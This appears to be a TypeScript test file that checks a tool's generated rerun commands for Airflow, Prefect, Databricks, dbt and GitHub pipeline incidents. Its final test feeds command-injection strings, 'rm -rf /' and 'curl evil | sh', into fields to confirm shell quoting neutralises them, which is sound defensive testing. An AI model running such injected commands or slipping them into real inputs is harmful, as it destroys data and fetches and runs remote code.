import { expect, it } from "vitest";
import { RERUNNERS } from "@/lib/fixes/reruns/list-rerunners";
import { shellWord } from "@/lib/fixes/reruns/shell-word";
import { failureReport } from "@/lib/failures/testing/report";
import type { IncidentContext } from "@/lib/incidents/incident-context";

const incident = (
  part: Partial<IncidentContext>,
  refs: Record<string, string | null> = {},
): IncidentContext => ({
  incidentId: "i",
  number: 1,
  title: "t",
  rootCause: null,
  fingerprint: "f",
  report: failureReport({ refs }),
  detectedBy: "webhook",
  openedAt: new Date(0),
  lastSeenAt: new Date(0),
  pipelineId: "p",
  pipeline: "orders_daily",
  taskId: "t",
  task: "transform",
  operator: null,
  flakeScore: null,
  run: "run-1",
  tryNumber: 1,
  mapIndex: -1,
  source: { id: "s", kind: "airflow", name: "S", apiBaseUrl: null, repository: null, dagsFolder: null },
  ...part,
});

const command = (kind: string, about: IncidentContext, branch: string | null = "main") =>
  RERUNNERS.get(kind)?.command({ incident: about, branch });

it.each([
  [
    "airflow",
    incident({ task: "load.orders" }),
    String.raw`airflow tasks clear --task-regex '^load\.orders$' --downstream --start-date 2026-11-20T00:00:00Z --end-date 2026-11-20T00:00:00Z --only-failed --yes orders_daily`,
  ],
  ["airflow", incident({ report: failureReport({ run: null }) }), "airflow dags trigger orders_daily"],
  [
    "prefect",
    incident({ run: "a-b" }),
    `curl -X POST "$PREFECT_API_URL"/flow_runs/a-b/set_state -H 'content-type: application/json' -d '{"state": {"type": "SCHEDULED", "name": "AwaitingRetry"}}'`,
  ],
  ["databricks", incident({ run: "123" }), "databricks jobs repair-run 123 --rerun-all-failed-tasks"],
  ["dbt", incident({ task: "model.shop.orders" }), "dbt build --select orders+"],
  ["dbt", incident({}, { dbt_cloud_run: "7" }), null],
  [
    "github",
    incident({ run: "9" }, { repository: "acme/pipes", workflow: ".github/workflows/etl.yml" }),
    "gh workflow run etl.yml --repo acme/pipes --ref main",
  ],
] as const)("%s: what to run by hand", (kind, about, expected) => {
  expect(command(kind, about)).toBe(expected);
});

it("quotes what reports name, so that a command runs nothing else", () => {
  expect(shellWord("a'; rm -rf / #")).toBe(String.raw`'a'\''; rm -rf / #'`);
  expect(
    command("airflow", incident({ report: failureReport({ run: null }), pipeline: "x; curl evil | sh" })),
  ).toBe("airflow dags trigger 'x; curl evil | sh'");
  expect(command("dagster", incident({ run: 'x" } ; evil' }))).toBeNull();
});
